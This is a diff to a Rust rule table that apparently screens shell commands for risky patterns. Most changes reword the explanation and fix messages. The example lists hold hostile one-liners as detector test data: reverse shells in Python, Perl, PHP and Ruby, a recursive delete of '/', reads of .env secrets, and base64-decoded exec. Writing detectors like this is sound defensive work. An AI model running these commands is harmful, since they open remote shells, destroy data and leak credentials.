@@ -86,9 +86,10 @@ pub(super) const SHAPES: &[Shape] = &[
         programs: CODED,
         fires: |command| code(command).any(|code| has(code, SOCKETS) && has(code, SHELLS)),
         reason: "is code that connects to the network and starts a shell there",
-        fix: "there is no safe form of this",
+        fix: "there is no safe alternative",
         matches: &[
-            "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
+            "python3 -c 'import \
+             socket,os,pty;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
             "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,1);exec(\"/bin/sh -i\");'",
             "php -r '$s=fsockopen(\"h\",1);exec(\"sh <&3 >&3\");'",
             "ruby -rsocket -e 'f=TCPSocket.open(\"h\",1).to_i;exec sprintf(\"sh -i <&%d\",f)'",
@@ -110,8 +111,8 @@ pub(super) const SHAPES: &[Shape] = &[
                 .any(|code| has(code, STARTS) && !(is_python(command) && python::starts_by_list(code)))
                 || awk::scripts(command).any(awk::runs)
         },
-        reason: "is code that starts other programs, which cannot be seen",
-        fix: "write the program as a command of its own, so that it can be judged",
+        reason: "is code that starts other programs, which cannot be checked",
+        fix: "run the program as a separate command, so that it can be checked",
         matches: &[
             "python3 -c 'import os; os.system(\"id\")'",
             "python -c 'import subprocess; subprocess.run(\"id\", shell=True)'",
@@ -149,8 +150,8 @@ pub(super) const SHAPES: &[Shape] = &[
         floor: Sandbox,
         programs: &["awk", "gawk", "mawk", "nawk"],
         fires: |command| !awk::only_prints(command),
-        reason: "runs a script of awk that may do more than print",
-        fix: "write a script that only prints parts of what it reads",
+        reason: "runs an awk script that may do more than print",
+        fix: "use a script that only prints parts of its input",
         matches: &[
             "awk '{print > \"f\"}'",
             "awk '{print $1 | \"sh\"}'",
@@ -182,8 +183,8 @@ pub(super) const SHAPES: &[Shape] = &[
         floor: Ask,
         programs: CODED,
         fires: |command| code(command).any(|code| has(code, DELETES)),
-        reason: "is code that deletes or overwrites files, which cannot be seen",
-        fix: "use rm with the names of the files, so that they can be judged",
+        reason: "is code that deletes or overwrites files, which cannot be checked",
+        fix: "use rm with the file names, so that they can be checked",
         matches: &[
             "python3 -c 'import shutil; shutil.rmtree(\"/\")'",
             "node -e 'fs.rmSync(\"/\",{recursive:true})'",
@@ -197,8 +198,8 @@ pub(super) const SHAPES: &[Shape] = &[
         floor: Ask,
         programs: CODED,
         fires: |command| code(command).any(names_secret) || awk::scripts(command).any(names_secret),
-        reason: "is code that names a file with secrets",
-        fix: "read only what is needed, or ask a person",
+        reason: "is code that reads a file with secrets",
+        fix: "read only the required part, or ask the user",
         matches: &[
             "python3 -c \"print(open('.env').read())\"",
             "node -p \"fs.readFileSync('.env','utf8')\"",
@@ -213,7 +214,7 @@ pub(super) const SHAPES: &[Shape] = &[
         programs: CODED,
         fires: |command| code(command).any(|code| has(code, HIDING)),
         reason: "is code that decodes other code and runs it",
-        fix: "write the code as it is",
+        fix: "write the code without encoding",
         matches: &[
             "python3 -c 'exec(__import__(\"base64\").b64decode(\"aWQ=\"))'",
             "php -r 'eval(base64_decode(\"x\"));'",
@@ -259,7 +260,7 @@ pub(super) const SHAPES: &[Shape] = &[
             "npx" => command.is_sub(&["http-server", "serve", "localtunnel"]),
             _ => true,
         },
-        reason: "lets the network read the files of this folder",
+        reason: "serves the files of this directory to the network",
         fix: "bind it to 127.0.0.1",
         matches: &["python3 -m http.server 8000", "php -S 0.0.0.0:80", "npx http-server"],
         clean: &["python3 -m http.server --bind 127.0.0.1", "php -S 127.0.0.1:80", "python3 -m json.tool"],
@@ -284,8 +285,8 @@ pub(super) const SHAPES: &[Shape] = &[
             "emacs" => command.says(&["--eval", "-eval", "--script", "-l", "--load", "-f", "--funcall"]),
             _ => false,
         },
-        reason: "runs a script that cannot be seen here, in a language that can start programs",
-        fix: "write the script in the command, or read it first",
+        reason: "runs a script that cannot be checked, in a language that can start programs",
+        fix: "write the script in the command, or review it first",
         matches: &[
             "sed -f x f",
             "awk -f x.awk f",
